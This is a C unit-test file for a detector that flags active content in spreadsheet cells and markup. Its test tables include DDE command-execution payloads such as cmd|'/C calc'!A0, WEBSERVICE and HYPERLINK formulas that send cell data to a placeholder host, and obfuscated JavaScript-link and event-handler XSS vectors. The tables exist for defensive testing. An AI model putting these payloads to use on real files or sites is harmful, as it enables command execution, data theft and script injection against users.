/*
 * test_active_content.c
 *		Cells that a spreadsheet or a browser runs, and those that look like it.
 */
#include "active_content.h"
#include "unit.h"

#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#define lengthof(array) (sizeof(array) / sizeof((array)[0]))

/* kind: NULL for a harmless cell */
typedef struct CellCase
{
	const char *cell;
	const char *kind;
} CellCase;

static const char formula[] = "a formula";
static const char dde[] = "a DDE command";
static const char handler[] = "an event handler";
static const char script[] = "a script tag";

static const CellCase formulas[] = {
	{"=1+1", formula},
	{"=", formula},
	{" \t\r\n=SUM(A1)", formula},
	{"\x01=2", formula},
	{"\xC2\xA0=2", formula},
	{"\xE2\x80\x8B\xEF\xBB\xBF=2", formula},
	{"\"=2\"", formula},
	{" \" =2", formula},
	{"\xEF\xBC\x9D" "2", formula},
	{"\xEF\xBC\x8B" "1+1", formula},
	{"\xEF\xBC\xA0SUM(1,1)", formula},
	{"+1+1", formula},
	{"-1-1", formula},
	{"@1*2", formula},
	{"-1/2", formula},
	{"+2^8", formula},
	{"-(3+4)*2", formula},
	{"--1+1", formula},
	{"+-+1&2", formula},
	{"-1<>2", formula},
	{"+\"a\"&\"b\"", formula},
	{"\"+1+1\"", formula},
	{"+A1", formula},
	{"-b2", formula},
	{"@A1", formula},
	{"+$B$2", formula},
	{"- A1", formula},
	{"+A1:B2", formula},
	{"-1+A1", formula},
	{"+Sheet1!A1", formula},
	{"+'My sheet'!A1", formula},
	{"-[Book1.xls]Data!$A$1", formula},
	{"@SUM(1,1)", formula},
	{"@sum (A1,B2)", formula},
	{"-2+SUM(x)", formula},
	{"+NOW()", formula},
	{"+ NOW()", formula},
	{"- SUM(1,1)", formula},
	{"- HYPERLINK(\"http://x.example\",\"y\")", formula},
	{"-WEBSERVICE (\"http://x.example/\"&A1)", formula},
	{"+x&WEBSERVICE(\"http://x.example/\"&A1)", formula},
	{"+AVERAGE(SUM(1))", formula},
	{"+prog|topic", formula},
	{"=cmd|'/C calc'!A0", dde},
	{"+cmd|' /C calc'!A0", dde},
	{"+cmd |'/C calc'!A0", dde},
	{"@SUM(1+1)*cmd|'/C calc'!A0", dde},
	{"CMD|'/C calc'!A0", dde},
	{"excel|'x.exe'!''", dde},
	{"=DDE(\"cmd\";\"/C calc\";\"1\")", dde},
	{"dde (\"cmd\")", dde},
	{"DDEAUTO c:\\\\x", dde},
	{"DDE ( \"cmd\";\"/C calc\")", dde},
	{"cmd|/c calc", dde},
	{"run cmd| '/c calc", dde},
	{"\xEF\xB9\xA6" "1", formula},
	{"\xEF\xB9\xA2" "1+1", formula},
	{"\xEF\xB9\xA3" "A1", formula},
	{"\xEF\xB9\xAB" "SUM(1,1)", formula},
	{"@joe99 + SUM(A1)", formula},
	{"@joe99 & SUM(1,2)", formula},
	{"+WEBSERVICE (\"http://x.example\")", formula},
	{"@SUM (A1)", formula},
	{"- HYPERLINK (\"http://x.example\")", formula},
	{"+{1,2}+HYPERLINK(\"http://x.example\")", formula},
	{"+#REF!&HYPERLINK(\"http://x.example\")", formula},
	{"+1%%&HYPERLINK(\"http://x.example\")", formula},
	{"-5 %&WEBSERVICE(A1)", formula},
	{"+A1#&_xlfn.WEBSERVICE (A1)", formula},
	{"- see IMAGE(\"http://x.example/i.png\")", formula},
	{"- {1}&CALL( \"urlmon\")", formula},
	{"@ab9 + 1", formula},

	{"", NULL},
	{" ", NULL},
	{"\"", NULL},
	{"+", NULL},
	{"-", NULL},
	{"@", NULL},
	{"--", NULL},
	{"'=1+1", NULL},
	{" '+1+1", NULL},
	{"'cmd|'/C calc'!A0", NULL},
	{"a=1", NULL},
	{"0=0", NULL},
	{"1-2-3", NULL},
	{"a|b", NULL},
	{"DDE", NULL},
	{"added (x)", NULL},
	{"-5", NULL},
	{"-12.50", NULL},
	{"-$1.00", NULL},
	{"-1E+02", NULL},
	{"-20%", NULL},
	{"+1", NULL},
	{"+1 for this plan", NULL},
	{"+49 30 1234", NULL},
	{"+49 (0) 30/1234-56", NULL},
	{"+1-555-0100", NULL},
	{"+1.555.0100", NULL},
	{"+1-555-0100 x12", NULL},
	{"+1-555-0100 ext. 12", NULL},
	{"+1-555-0100;ext=12", NULL},
	{"+1-555-0100,12", NULL},
	{"+1-555-0100,,12#", NULL},
	{"+49\xC2\xA0" "30\xC2\xA0" "1234-56", NULL},
	{"- likes cats", NULL},
	{"- T-shirt", NULL},
	{"- on/off, left & right", NULL},
	{"- Kunde(n) hat angerufen", NULL},
	{"- kids (2)", NULL},
	{"- kids (5, 7)", NULL},
	{"- size (A4)", NULL},
	{"- B2 level", NULL},
	{"- A4, white", NULL},
	{"- nickname (\"Bob\")", NULL},
	{"- 5-6 years", NULL},
	{"- 24/7 support", NULL},
	{"--help", NULL},
	{"-_-", NULL},
	{"@home", NULL},
	{"@home (2nd floor)", NULL},
	{"@joe99", NULL},
	{"@joe99 - likes tea", NULL},
	{"@joe99 - @mia5", NULL},
	{"- call (555) 555-0100", NULL},
	{"- call(s) today", NULL},
	{"- image (front)", NULL},
	{"- our hyperlink policy (2024)", NULL},
	{"hyperlink(\"x\")", NULL},
	{"-1,-2,-3", NULL},
	{"Press cmd|ctrl and v", NULL},
	{"Motto | 'Carpe diem'!", NULL},
	{"He said | 'wow'! Then he left.", NULL},
	{"DDE (Dynamic Data Exchange)", NULL},
	{"@john.doe", NULL},
	{"@home-office", NULL},
	{"@ 10:30", NULL},
	{"+tag@example.org", NULL},
	{"O'Neil", NULL},
	{"a@b.c", NULL}
};

static const CellCase markup[] = {
	{"<script>", script},
	{"a <SCRIPT src=x>", script},
	{"'<script>", script},
	{"<sc<script>ript>", script},
	{"<object data=x>", "an object tag"},
	{"<embed src=x>", "an embed tag"},
	{"<iframe>", "an iframe tag"},
	{"x <?php", "a processing instruction"},
	{"<% x %>", "a server-side script"},
	{"javascript:x()", "a JavaScript link"},
	{"<a href=JavaScript:x()>", "a JavaScript link"},
	{"java\tscr\nipt:x()", "a JavaScript link"},
	{"javascript:x", "a JavaScript link"},
	{"javascript: alert(1)", "a JavaScript link"},
	{"javascript:'a'.b(c)", "a JavaScript link"},
	{"javascript:\\u0061lert(1)", "a JavaScript link"},
	{"JavaScript: 5 years, location = x", "a JavaScript link"},
	{"javascript:\n\talert`1`", "a JavaScript link"},
	{"javascript: a%28b%29", "a JavaScript link"},
	{"javascript: a&#40;b)", "a JavaScript link"},
	{"javascript: a&lpar;b)", "a JavaScript link"},
	{"javascript: [][a](b)", "a JavaScript link"},
	{"<a href=\"javascript&#58;x()\">", "a JavaScript link"},
	{"javascript&colon;x()", "a JavaScript link"},
	{"&#x6A;ava&#115cript:x()", "a JavaScript link"},
	{"&#0000106&#x00041vascript:x()", "a JavaScript link"},
	{"java&Tab;scr&NewLine;ipt&#X3a;x()", "a JavaScript link"},
	{"java&#10;script:x()", "a JavaScript link"},
	{"vbscript&#58;x", "a VBScript link"},
	{"data&colon;text&sol;html,x", "an HTML data link"},
	{"vbscript:x", "a VBScript link"},
	{"data:text/html,x", "an HTML data link"},
	{"<img src=x onerror=x()>", handler},
	{"<svg/onload=x()>", handler},
	{"<b\nONCLICK = x()>", handler},
	{"<img alt=\"a>b\" onerror=x()>", handler},
	{"<img alt=O'Neil onerror=x()>", handler},
	{"< b><img alt=\"\"onerror=x()>", handler},
	{"<a < onclick=x()>", handler},
	{"<a <b onclick=x()>", handler},
	{"<img src=`x`onerror=x()>", handler},

	{"<3", NULL},
	{"1 < 2", NULL},
	{"<", NULL},
	{"a < b and one = 2", NULL},
	{"a <b and one=2", NULL},
	{"<b>bold</b> onset = 3", NULL},
	{"<b title=\"now onset=3\">", NULL},
	{"<mia@example.org>", NULL},
	{"price < 5, online=yes", NULL},
	{"<scripture>", NULL},
	{"script object embed iframe", NULL},
	{"Java: script", NULL},
	{"data:text/plain,x", NULL},
	{"see http://x.example/?a=b:c", NULL},
	{"javascript", NULL},
	{"Skills: JavaScript: 5 years, Java: 3 years", NULL},
	{"JavaScript: 5 years (React, Vue), 80% of my time", NULL},
	{"JavaScript: R&D, HTML & CSS; Java & more", NULL},
	{"Languages: JavaScript:", NULL},
	{"{\"a\": \"Languages: JavaScript:\"}", NULL},
	{"javascript&#59;x()", NULL},
	{"javascript&;&#;&#x;&colo", NULL},
	{"&#4294967402;avascript:x()", NULL},
	{"javascript &colon; x", NULL}
};

static const CellCase emails[] = {
	{"+1+1@example.org", NULL},
	{"-a1@example.org", NULL},
	{"a|b@example.org", NULL},
	{"=1+1@example.org", formula},
	{"+cmd|x@example.org", formula},
	{"\"<script>\"@example.org", script}
};

/* What the error report must put an apostrophe before */
static const struct
{
	const char *cell;
	bool		runs;
}			spreadsheet[] = {
	{"=1", true},
	{"+", true},
	{"-5", true},
	{"@home", true},
	{"\tx", true},
	{"\rx", true},
	{" =1", true},
	{" \n\v\f+", true},
	{" \tx", true},
	{"'=1", true},
	{"''' @x", true},
	{"", false},
	{"'", false},
	{" ", false},
	{"a=1", false},
	{" '=1", false},
	{"\"=1", false},
	{"\nx", false},
	{"\xC2\xA0=1", false}
};

/* Judge a copy of exactly its size, so that a read beyond it is seen */
static const char *
judge(const char *cell, size_t len, bool is_email, bool *runs)
{
	char	   *copy = malloc(len);
	const char *kind;

	if (len > 0)
		memcpy(copy, cell, len);
	kind = wfx_active_content(copy, len, is_email);
	*runs = wfx_runs_in_spreadsheet(copy, len);
	free(copy);
	return kind;
}

/* Try one table */
static void
check_cells(const char *name, const CellCase *cases, size_t count, bool is_email)
{
	for (size_t i = 0; i < count; i++)
	{
		const char *want = cases[i].kind;
		bool		runs;
		const char *kind = judge(cases[i].cell, strlen(cases[i].cell), is_email, &runs);
		bool		same = kind == want || (kind && want && strcmp(kind, want) == 0);

		if (!ok(same, "%s %zu is %s", name, i + 1, want ? want : "harmless"))
			printf("# got: %s\n", kind ? kind : "harmless");
	}
}

/* The same random number in every run */
static uint32_t
next_random(void)
{
	static uint32_t state = 2463534242U;

	state ^= state << 13;
	state ^= state >> 17;
	state ^= state << 5;
	return state;
}

/* Judge cells put together at random; an equals sign in front is always found */
static bool
survives_random(int rounds)
{
	static const char *const pieces[] = {
		"=", "+", "-", "@", "'", "\"", "(", ")", "A1", "$B$2", "cmd", "|", "!", "DDE", " ", "\t",
		"12", "1e", "%", "<", ">", "<a ", "onload", "/", "javascript:", "java", "data:", "&", ":",
		"x", "\xC2", "\xC2\xA0", "\xE2\x80", "\xEF\xBC\x8B", "[", "]", "<img ", "<script"
	};

	for (int i = 0; i < rounds; i++)
	{
		char		cell[128] = "";
		bool		runs;
		const char *kind;

		for (uint32_t n = next_random() % 10; n > 0; n--)
			strcat(cell, pieces[next_random() % lengthof(pieces)]);
		kind = judge(cell, strlen(cell), false, &runs);
		if (cell[0] == '=' && (kind == NULL || !runs))
			return false;
	}
	return true;
}

/* Cells of a megabyte that a search from every tag, quote or pipe would not finish */
static bool
takes_linear_time(void)
{
	static const char *const pieces[] = {
		"<a ", "<a \" =\"", "<a ='", "a|''", "a |'", "j\t", "+(1", "+a(", "+'", "+hyperlink ", "-_.", "<a onabc ", "<",
		"javascript: ", "&#106;", "&colon", "&#0", "javascript: ("
	};
	size_t		size = 1 << 20;
	char	   *cell = malloc(size);
	bool		runs;

	for (size_t i = 0; i < lengthof(pieces); i++)
	{
		for (size_t j = 0; j < size; j++)
			cell[j] = pieces[i][j % strlen(pieces[i])];
		(void) judge(cell, size, false, &runs);
	}
	free(cell);
	return true;
}

int
main(void)
{
	check_cells("formula", formulas, lengthof(formulas), false);
	check_cells("markup", markup, lengthof(markup), false);
	check_cells("e-mail", emails, lengthof(emails), true);
	for (size_t i = 0; i < lengthof(spreadsheet); i++)
	{
		bool		runs;

		(void) judge(spreadsheet[i].cell, strlen(spreadsheet[i].cell), false, &runs);
		ok(runs == spreadsheet[i].runs, "spreadsheet %zu %s", i + 1,
		   spreadsheet[i].runs ? "runs" : "does not run");
	}
	ok(survives_random(200000), "random cells");
	ok(takes_linear_time(), "long cells");
	return done_testing();
}
